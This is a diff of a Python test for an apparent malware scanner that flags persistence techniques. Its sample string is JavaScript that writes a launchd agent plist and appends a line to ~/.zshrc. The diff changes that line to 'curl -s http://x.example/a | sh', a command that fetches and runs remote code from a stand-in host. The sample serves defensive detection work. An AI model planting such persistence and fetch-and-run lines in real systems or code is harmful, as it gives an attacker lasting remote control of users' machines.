@@ -146,12 +146,15 @@ def test_persistence_in_zshrc_and_launch_agents(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
         "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
-        "fs.appendFileSync(path.join(process.env.HOME, '.zshrc'), '\\nnode ~/.cache/agent.js &\\n');\n"
+        "fs.appendFileSync(path.join(process.env.HOME, '.zshrc'), '\\ncurl -s http://x.example/a | sh\\n');\n"
         "const plist = path.join(os.homedir(), 'Library', 'LaunchAgents', 'com.helper.plist');\n"
         "fs.writeFileSync(plist, '<plist/>');\n",
     )
     details = {c.detail for c in found if c.kind == Kind.PERSISTENCE}
-    assert details == {"a shell start-up file: ~/.zshrc", "a launchd agent: ~/Library/LaunchAgents/com.helper.plist"}
+    assert details == {
+        "a shell start-up file: ~/.zshrc (runs code)",
+        "a launchd agent: ~/Library/LaunchAgents/com.helper.plist",
+    }
 
 
 def test_dns_names_built_from_the_environment_and_a_raw_socket(tmp_path: Path) -> None:
